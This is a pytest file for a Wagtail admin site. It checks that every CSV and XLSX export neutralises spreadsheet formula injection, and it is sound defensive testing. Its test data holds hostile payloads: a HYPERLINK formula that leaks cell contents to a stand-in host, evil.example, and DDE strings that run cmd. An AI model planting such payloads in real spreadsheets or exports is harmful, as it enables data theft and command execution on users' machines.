"""No formulas in downloads (issue 21, item 4): whatever a visitor or an editor typed, no cell of
any CSV the admin produces starts with a character that makes Excel, LibreOffice or Google
Sheets run it as a formula; the XLSX downloads store such text as text.

Every admin address that offers a download is found from the URL configuration (any view built
on Wagtail's SpreadsheetExportMixin), so a report added later is checked too."""

import csv
import datetime
import io

import pytest
from django.contrib.auth import get_user_model
from django.test import Client
from django.urls import URLResolver, get_resolver, reverse
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.redirects.models import Redirect
from wagtail.contrib.search_promotions.models import Query
from wagtail.log_actions import log

from core.exports import FORMULA_STARTS, neutralise_formula
from feedback.models import PageFeedback
from strategy.models import StandardPage
from tests.support.factories import StandardPageFactory

pytestmark = pytest.mark.django_db

# What an attacker types: the classic payloads, each formula character, and the full-width
# forms Excel also reads as formulas in East Asian locales.
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Open the guidance")'
DDE = "=cmd|' /C calc'!A0"
PAYLOADS = [
    HYPERLINK,
    DDE,
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
]


def export_views():
    """(path, view class) of every admin listing that offers spreadsheet downloads."""
    found = []

    def walk(patterns, prefix):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                walk(pattern.url_patterns, prefix + str(pattern.pattern))
                continue
            view = pattern.callback
            while not hasattr(view, "view_class") and hasattr(view, "__wrapped__"):
                view = view.__wrapped__
            cls = getattr(view, "view_class", None)
            path = prefix + str(pattern.pattern)
            if (
                cls is not None
                and issubclass(cls, SpreadsheetExportMixin)
                and cls.list_export
                and "<" not in path
                and not path.endswith("results/")
            ):
                found.append(("/" + path, cls))

    walk(get_resolver().url_patterns, "")
    return found


@pytest.fixture
def hostile(site):
    """Text a visitor or an editor could have typed, in every place a download shows it."""
    admin = get_user_model().objects.create_superuser(
        "downloader", "d@example.org", "x" * 20, first_name=DDE, last_name="+1"
    )
    page = StandardPageFactory(parent=site.root_page)
    StandardPage.objects.filter(pk=page.pk).update(
        title=HYPERLINK,
        last_reviewed=None,  # due for review: never reviewed, no first review date
        first_review_due=None,
        locked=True,
        locked_by=admin,
        locked_at=timezone.now(),
    )
    page.refresh_from_db()
    revision = page.save_revision(user=admin)
    log(instance=page, action="wagtail.edit", user=admin, revision=revision)
    page.get_workflow().start(page, admin)
    PageFeedback.objects.bulk_create(
        PageFeedback(
            page=page,
            useful=False,
            looking_for=payload,
            wrong_or_missing=payload,
            created_on=timezone.localdate() - datetime.timedelta(days=1),
        )
        for payload in PAYLOADS
    )
    Redirect.objects.create(old_path="/old", redirect_link=HYPERLINK)
    Query.get("=1+1").add_hit()
    client = Client()
    client.force_login(admin)
    return client


def download(client, path, export_format):
    response = client.get(path, {"export": export_format})
    assert response.status_code == 200, path
    return b"".join(response.streaming_content)


def test_every_admin_download_is_found(hostile):
    paths = {path for path, _cls in export_views()}
    # The project's own reports and Wagtail's, the redirects and the search terms.
    assert {
        reverse("review_report"),
        reverse("feedback_report"),
        reverse("wagtailadmin_reports:site_history"),
        reverse("wagtailadmin_reports:aging_pages"),
        reverse("wagtailadmin_reports:locked_pages"),
        reverse("wagtailadmin_reports:workflow"),
        reverse("wagtailadmin_reports:workflow_tasks"),
        reverse("wagtailredirects:index"),
        reverse("wagtailsearchpromotions:search_terms"),
    } <= paths


def test_no_cell_of_any_csv_download_starts_a_formula(hostile):
    shown = {}
    for path, _cls in export_views():
        body = download(hostile, path, "csv").decode("utf-8-sig")
        for row in list(csv.reader(io.StringIO(body, newline="")))[1:]:
            for cell in row:
                assert not cell.startswith(FORMULA_STARTS), (path, cell)
                shown.setdefault(cell, set()).add(path)
    # What was typed is still there, to read: behind an apostrophe that spreadsheets hide.
    for payload in PAYLOADS:
        assert "'" + payload in shown, payload
    assert reverse("feedback_report") in shown["'" + DDE]
    assert reverse("wagtailadmin_reports:site_history") in shown["'" + HYPERLINK]
    assert reverse("review_report") in shown["'" + HYPERLINK]
    assert reverse("wagtailredirects:index") in shown["'" + HYPERLINK]
    assert reverse("wagtailsearchpromotions:search_terms") in shown["'=1+1"]


def test_no_cell_of_any_xlsx_download_is_a_formula(hostile):
    texts = set()
    for path, _cls in export_views():
        workbook = load_workbook(io.BytesIO(download(hostile, path, "xlsx")))
        for row in workbook.active.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path, cell.value)
                texts.add(cell.value)
    # Stored as the very text typed (no apostrophe needed: a text cell never runs).
    assert HYPERLINK in texts
    assert DDE in texts
    assert "＝1+1" in texts


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("＠SUM(A1)", "'＠SUM(A1)"),
        ("\r=1+1", "'\r=1+1"),
        ("Nothing on cots", "Nothing on cots"),
        ("a=b", "a=b"),
        ("", ""),
        (-3, -3),  # numbers stay numbers
        (None, None),
    ],
)
def test_neutralise_formula(value, expected):
    assert neutralise_formula(value) == expected
